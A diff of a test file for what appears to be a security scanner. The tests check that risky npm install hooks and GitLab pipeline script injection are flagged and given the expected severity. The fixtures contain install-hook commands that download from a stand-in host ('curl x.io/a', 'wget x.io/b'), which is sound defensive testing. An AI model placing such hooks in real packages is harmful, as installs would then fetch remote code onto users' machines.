@@ -58,7 +58,7 @@ test('of a changed package only what is new is reported, also in a hunk', async 
   const old =
     '{\n  "scripts": {\n    "a": "b",\n    "postinstall": "curl x.io/a -o b",\n    "c": "d"\n  }\n}\n';
   t.deepEqual(await inChange('package.json', old, old.replace('"b"', '"e"')), []);
-  const next = old.replace('"a": "b"', '"\\u0070reinstall": "wget x.io/b"');
+  const next = old.replace('"a": "b"', '"preinstall": "wget x.io/b"');
   t.deepEqual(ids(await inChange('package.json', old, next)), [
     'risk-install-download',
     'risk-install-script',
@@ -114,7 +114,7 @@ test('texts that others choose are found where a pipeline of GitLab makes code o
   );
   t.deepEqual(
     branch.map(({ id, severity }) => `${severity} ${id}`),
-    ['medium risk-gitlab-script-injection'],
+    ['high risk-gitlab-script-injection'],
   );
   for (const text of [
     'include: "https://x.io/a.yml"\n',
